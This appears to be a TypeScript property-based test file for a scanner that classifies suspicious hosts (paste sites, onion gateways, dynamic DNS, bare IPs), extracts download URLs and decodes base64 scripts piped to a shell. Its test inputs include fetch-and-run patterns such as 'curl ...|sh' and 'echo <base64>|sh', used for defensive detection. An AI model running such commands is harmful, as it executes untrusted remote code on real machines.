import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { decodedPayloads } from './encoded-payload.ts'
import { findDownloadUrls, isPublicAddress, kindOfHost } from './url-kinds.ts'

test('kinds of hosts', () => {
  const kinds = [
    '203.0.113.9',
    'pastebin.com',
    'x.onion',
    'x.onion.ws',
    'abc.tor2web.io',
    'me.duckdns.org',
    '3405803785',
    '10.0.0.1',
    '127.0.0.1',
    'deb.debian.org',
    'notpastebin.com',
  ]
  assert.deepEqual(kinds.map(kindOfHost), [
    'bare-ip',
    'paste-site',
    'onion',
    'onion',
    'onion',
    'odd-host',
    'bare-ip',
    undefined,
    undefined,
    undefined,
    undefined,
  ])
})

test('private networks are never public, and URLs keep their hosts', () => {
  fc.assert(
    fc.property(
      fc.nat(255),
      fc.nat(255),
      fc.integer({ min: 16, max: 31 }),
      (a, b, c) => !isPublicAddress(`10.${a}.${b}.1`) && !isPublicAddress(`172.${c}.${a}.${b}`),
    ),
  )
  fc.assert(fc.property(fc.domain(), host => assert.equal(findDownloadUrls(`curl http://u@${host}:81/x|sh`)[0]?.host, host.toLowerCase())))
  fc.assert(fc.property(fc.string(), text => void findDownloadUrls(text)))
})

test('base64 of any script comes back; tokens and garbage do not', () => {
  const script = fc
    .string({ unit: fc.constantFrom(...'abc /;|.-\n'.split('')), minLength: 20, maxLength: 200 })
    .filter(text => /[ \n;|]/.test(text))
  fc.assert(fc.property(script, text => assert.deepEqual(decodedPayloads(`echo ${btoa(text)}|sh`), [text])))
  fc.assert(fc.property(fc.string(), text => void decodedPayloads(text)))
  assert.deepEqual(decodedPayloads('AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl'), [])
})
